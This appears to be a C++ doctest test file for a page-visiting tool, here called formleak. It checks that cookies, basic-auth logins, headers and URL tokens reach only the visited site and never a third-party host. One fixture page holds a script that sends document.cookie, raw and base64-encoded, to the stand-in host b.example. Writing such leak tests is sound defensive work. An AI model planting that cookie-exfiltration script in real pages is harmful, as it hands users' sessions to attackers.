// The same secrets, in the hands of the browser that visits a page; and that inspecting contacts nobody.
#include <doctest/doctest.h>

#include "tests/e2e/attacks/secrets_world.h"

using namespace formleak;
using namespace formleak::test;

namespace {

Outcome verify(const Two& two, std::vector<std::string> arguments) {
    arguments.insert(arguments.begin(), {"verify", "--format", "json"});
    for (std::string& argument : two.connect()) arguments.push_back(std::move(argument));
    return run_formleak(arguments);
}

bool is_browsers(const ServedRequest& request) {
    return header_of(request, "user-agent").find("Chrome/") != std::string::npos;
}

const char* kForm =
    "<form action='/s' method='post'><input type='email' name='email'><button>Skicka</button></form>";

}  // namespace

TEST_CASE("secrets: a visit gives header, login and cookies to the site alone") {
    Two two;
    two.own.page("/f?token=T&email=e%40x", page_of(std::string(kForm) + kLoads));
    const TempFolder folder;
    const std::string cookies = folder.write("cookies.txt",
                                             "a.example\tFALSE\t/\tFALSE\t0\tnarrow\tn1\n"
                                             ".b.example\tTRUE\t/\tFALSE\t0\tstrange\tx1\n");
    const Outcome outcome = verify(two, {"http://anna:pa55w0rd@a.example/f?token=T&email=e%40x", "--header",
                                         "X-Key: h1dden", "--cookie-file", cookies});
    CAPTURE(outcome.err);
    std::size_t visits = 0, strangers = 0;
    for (const ServedRequest& request : two.own.requests()) {
        CAPTURE(request.target);
        CHECK(header_of(request, "x-key") == "h1dden");
        CHECK(header_of(request, "authorization") == "Basic YW5uYTpwYTU1dzByZA==");
        CHECK(header_of(request, "cookie").find("narrow=n1") != std::string::npos);
        visits += is_browsers(request);
    }
    CHECK(visits > 0);
    for (const ServedRequest& request : two.stranger.requests()) {
        CAPTURE(request.host);
        CAPTURE(request.target);
        CHECK(header_of(request, "x-key").empty());
        CHECK(header_of(request, "authorization").empty());
        CHECK(header_of(request, "cookie").find("strange") == std::string::npos);
        const std::string referer = header_of(request, "referer");
        CHECK_FALSE(referer.find("token") != std::string::npos);
        strangers += is_browsers(request);
    }
    CHECK(strangers > 0);
    for (const char* secret : {"pa55w0rd", "h1dden", "narrow=n1"})
        CHECK((outcome.out + outcome.err).find(secret) == std::string::npos);
}

TEST_CASE("secrets: no script of a visited page hands the session to strangers, and no recording holds it") {
    Two two;
    two.own.page("/f",
                 page_of(std::string(kForm) +
                         "<script>new Image().src='http://b.example/c?c='+encodeURIComponent("
                         "document.cookie);fetch('http://b.example/d/'+btoa(document.cookie))</script>"));
    const TempFolder folder;
    const std::string cookies = folder.write("cookies.txt",
                                             "a.example\tFALSE\t/\tFALSE\t0\tnarrow\tSEKRET1\n"
                                             ".a.example\tTRUE\t/\tFALSE\t0\twide\tSEKRET2\n");
    const std::string har = folder.path() + "/visit.har", report = folder.path() + "/report.json";
    verify(two, {"http://a.example/f", "--cookie-file", cookies, "-o", har, "-o", report});
    std::size_t with_session = 0;
    for (const ServedRequest& request : two.own.requests())
        with_session += header_of(request, "cookie").find("narrow=SEKRET1") != std::string::npos;
    CHECK(with_session > 0);
    CHECK(two.stranger.hits("/c?c=") == 1);  // asked, with nothing in it
    for (const ServedRequest& request : two.stranger.requests()) {
        CAPTURE(request.target);
        CHECK(request.target.find("SEKRET") == std::string::npos);
        CHECK(request.target.find("U0VLUkVU") == std::string::npos);  // base64 of SEKRET
    }
    CHECK(read_file(har).find("\"narrow=…; wide=…\"") != std::string::npos);
    for (const std::string& file : {har, report}) CHECK(read_file(file).find("SEKRET") == std::string::npos);
}

TEST_CASE("secrets: a stranger's document within a visit asks the site without header and login") {
    Two two;
    two.own.page("/f", page_of(std::string(kForm) + "<iframe src='http://b.example/spy'></iframe><script>"
                                                    "fetch('/own-api');fetch('/own-api?silent',"
                                                    "{referrerPolicy:'no-referrer'})</script>"));
    two.own.answer("/api", {200, "application/json", {{"Access-Control-Allow-Origin", "*"}}, "{}"});
    two.own.answer("/own-api", {200, "application/json", {}, "{}"});
    for (const char* path : {"/jsonp", "/silent"})
        two.own.answer(path, {200, "text/javascript", {}, "var a=1"});
    two.stranger.page("/spy",
                      "<!doctype html><script src='http://a.example/jsonp'></script><script "
                      "referrerpolicy=no-referrer src='http://a.example/silent'></script><script>"
                      "fetch('http://a.example/api');fetch('http://a.example/api?2',{credentials:'omit',"
                      "referrerPolicy:'no-referrer'})</script>");
    verify(two, {"http://anna:pa55w0rd@a.example/f", "--header", "X-Key: h1dden"});
    std::size_t of_strangers = 0;
    for (const ServedRequest& request : two.own.requests()) {
        const bool is_strangers =
            request.target.starts_with("/api") || request.target == "/jsonp" || request.target == "/silent";
        CAPTURE(request.target);
        CHECK(header_of(request, "x-key").empty() == is_strangers);
        CHECK(header_of(request, "authorization").empty() == is_strangers);
        of_strangers += is_strangers;
    }
    CHECK(of_strangers >= 3);
    CHECK(two.own.hits("/own-api") > 0);
    CHECK(two.own.hits("/own-api?silent") > 0);
}

TEST_CASE("secrets: what a visited page asks for in here is not asked for, and said") {
    Two two;
    const std::string inner = two.stranger.url("/inner.js");  // on 127.0.0.1, which the page may not lead to
    two.own.page("/f", page_of(std::string(kForm) + "<script>var s=document.createElement('script');s.src='" +
                               inner + "';document.body.append(s);fetch('" + two.stranger.url("/api") +
                               "').catch(()=>{})</script>"));
    const Outcome outcome = verify(two, {"http://a.example/f"});
    CHECK(outcome.exit_code == 3);
    CHECK(outcome.out.find(
              "2 requests of a browser visit were not made: the address of 127.0.0.1 is private or "
              "local, and a public page leads to it") != std::string::npos);
    CHECK(two.stranger.hits("/inner.js") == 0);
    CHECK(two.stranger.hits("/api") == 0);
}

TEST_CASE("secrets: inspecting a capture contacts nobody") {
    const Two two;
    const TempFolder folder;
    const std::string page = "http://127.0.0.1:" + std::to_string(two.own.port()) + "/f?token=T&email=e%40x";
    const std::string har = folder.write(
        "a.har",
        R"({"log":{"entries":[{"request":{"method":"GET","url":")" + page +
            R"(","headers":[]},"response":{"status":200,"headers":[{"name":"Content-Type","value":"text/html"}],)"
            R"("content":{"mimeType":"text/html","text":"<html><body>hello <script src='/own.js'></script>)"
            R"(<script>fbq('init','1029384756102938')</script></body></html>"}}}]}})");
    const Outcome outcome = run_formleak({"inspect", har, "--format", "json"});
    CHECK(outcome.out.find("1029384756102938") != std::string::npos);
    CHECK(two.own.requests().empty());
    CHECK(two.stranger.requests().empty());
}
